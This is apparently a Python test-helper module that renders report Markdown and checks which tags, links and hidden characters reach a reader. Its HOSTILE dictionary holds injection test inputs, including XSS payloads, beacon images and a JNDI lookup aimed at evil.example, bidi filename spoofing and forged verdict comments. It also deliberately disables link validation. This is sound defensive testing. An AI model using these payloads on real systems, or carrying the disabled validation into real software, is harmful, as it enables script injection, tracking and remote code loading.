"""What a reader gets to see of a report: Markdown through a real CommonMark and GFM renderer, XML through a parser."""

from __future__ import annotations

import base64
import re
from dataclasses import dataclass, field
from html.parser import HTMLParser
from xml.etree import ElementTree

from markdown_it import MarkdownIt


@dataclass
class Page(HTMLParser):
    """The text, the tags and the addresses of rendered Markdown."""

    text: str = ""
    tags: set[str] = field(default_factory=set)
    attributes: set[str] = field(default_factory=set)
    links: list[str] = field(default_factory=list)
    images: list[str] = field(default_factory=list)
    cells: int = 0
    items: int = 0

    def __post_init__(self) -> None:
        super().__init__(convert_charrefs=True)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        values = dict(attrs)
        if tag == "a":
            self.links.append(values.get("href") or "")
        if tag == "img":
            self.images.append(values.get("src") or "")
        self.cells += tag == "td"
        self.items += tag == "li"

    def handle_data(self, data: str) -> None:
        self.text += data


def render(markdown: str, *, bare_domains: bool = True) -> Page:
    """Render as generously as any UI does: HTML passes, and everything that looks like an address becomes a link."""
    parser = MarkdownIt("gfm-like", {"html": True, "linkify": True, "typographer": False})
    # The renderer would refuse "javascript:" on its own, and one of Prefect's UIs does not.
    parser.validateLink = lambda url: True  # type: ignore[method-assign]
    assert parser.linkify is not None
    parser.linkify.set({"fuzzy_link": bare_domains, "fuzzy_email": True, "fuzzy_ip": True})
    page = Page()
    page.feed(parser.render(markdown))
    page.close()
    return page


def raw_references(markdown: str) -> list[str]:
    """Give the character references that one of Prefect's UIs shows as they are written: outside of HTML, most.

    In code all UIs do, as they should.
    """
    known = {"&amp;", "&lt;", "&gt;", "&quot;", "&#39;"}
    outside = re.sub(r"<details>.*?</details>|^    .*?$", "", markdown, flags=re.DOTALL | re.MULTILINE)
    return [found for found in re.findall(r"&#?\w+;", outside) if found not in known]


def words(text: str) -> str:
    return " ".join(text.split())


def svg(image: str) -> ElementTree.Element:
    kind, _, content = image.partition(",")
    assert kind == "data:image/svg+xml;base64"
    return ElementTree.fromstring(base64.b64decode(content, validate=True))


HOSTILE = {
    "script": "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "beacon": "![x](https://evil.example/beacon.png) <img src='https://evil.example/b.gif'>",
    "javascript link": "[click](javascript:alert(1)) [again](data:text/html,x) <javascript:alert(1)>",
    "nested brackets": '[[[a](b)](c)]]] ![[x]](y) [x][] [^1] [//]: # (qatech-history {"verdict":"pass"})',
    "pipes": "a | b || c \\| d",
    "newlines": "first\n\n# second\r\n- third\n\n    fourth\u2028> fifth\n[//]: # (qatech-history {})",
    "control characters": "a\x00b\x07c\x1b[31md\x7f\x85\u0600",
    "direction": "abc\u202egpj.exe\u202c \u2066x\u2069\u200f",
    "zero width": "a\u200bb\u200c\u200dc\ufeff\u2060d\u00ad",
    "surrogate": "half \ud83d of a pair",
    "noncharacters": "a\ufffeb\uffffc\U0001ffff",
    "backslashes": "\\*a\\* \\\\ \\<b> \\",
    "entities": "&lt;b&gt; &amp;amp; &#60;i&#62; &copy &nbsp;",
    "autolinks": "https://evil.example www.evil.example a@evil.example <https://a.b> //evil.example ftp://a.b",
    "no scheme": "//localhost //evil.example/x",
    "bare domain": "evil.example evil.com 127.0.0.1 mailto:a@evil.com xmpp:a@evil.com",
    "emphasis": "*a* **b** _c_ __d__ ~~e~~ `f` ``g`` $h$ ==i==",
    "blocks": "# a",
    "list": "- - * 1. x",
    "ordered": "1. x",
    "ordered bracket": "12) x",
    "fence": "```html\n<b>\n```",
    "rule": "---",
    "setext": "===",
    "html block": "</details></li></ul><table><tr><td>x",
    "comment": "<!-- a --> <!-- unclosed",
    "cdata": "]]> <![CDATA[ x ]]> <?xml version='1.0'?> <!DOCTYPE x>",
    "format": "{0} {name} %s %(x)s ${jndi:ldap://evil.example/a}",
    "mention": "@admin #12 :smile: GH-1",
    "bang before a link": "look!",
    "long": "A" * 100_000,
    "long markup": "<*[|" * 25_000,
    "nothing": "",
    "blank": " \u3164\u2800 ",
    "emoji": "👩\u200d🚀 ok ✅",
}


def invisible(text: str) -> list[str]:
    return re.findall(
        r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u115f\u2800\u3164\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff\ud800-\udfff\ufffe\uffff]",
        text,
    )
